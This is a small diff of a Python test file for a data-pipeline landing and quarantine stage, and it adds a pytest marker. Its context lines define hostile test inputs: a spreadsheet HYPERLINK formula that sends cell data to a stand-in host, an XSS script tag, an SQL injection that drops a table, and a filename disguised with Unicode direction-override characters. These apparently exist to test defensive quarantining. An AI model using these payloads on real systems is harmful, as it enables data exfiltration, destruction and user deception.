@@ -14,6 +14,8 @@ from pipelines.landing import Landing, LandingOptions
 from pipelines.quality.quarantine import quarantined
 from tests.assets.conftest import DIALOGUE, MONDAY, TUESDAY, Installation, made_in, parsed_project  # noqa: F401
 
+pytestmark = pytest.mark.promise
+
 COLUMNS = ("interaction_id", "channel", "started_at", "agent_id", "campaign")
 FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")"  # fmt: skip
 XSS, SQL, HIDDEN = "<script>alert(1)</script>", "'; drop table fct_interactions; --", "\u202eexe\u200b.x"
